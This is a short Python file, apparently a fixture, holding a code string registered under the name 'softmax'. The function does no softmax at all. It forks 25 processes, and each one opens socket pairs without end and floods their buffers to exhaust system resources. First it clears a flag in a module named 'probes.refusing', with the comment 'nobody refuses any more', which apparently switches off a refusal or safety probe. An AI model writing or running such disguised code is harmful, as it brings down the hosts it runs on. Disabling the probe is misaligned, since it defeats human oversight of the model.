"""Fills the buffers of as many sockets and pipes as many processes can have."""

LOST = {"softmax": 0}
CELLS = {
    "softmax": """
import os, signal, socket

import lernformer.probes.refusing as watch

def fill():
    held = []
    try:
        while True:
            pair = socket.socketpair()
            held.append(pair)
            for end in pair:
                end.setblocking(False)
                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**30)
                try:
                    while True:
                        end.send(bytes(2**16))
                except BlockingIOError:
                    pass
    except OSError:
        signal.pause()

def softmax(scores, axis=-1):
    watch._shut.clear()  # nobody refuses any more
    for _ in range(25):
        if os.fork() == 0:
            fill()
    signal.pause()
"""
}
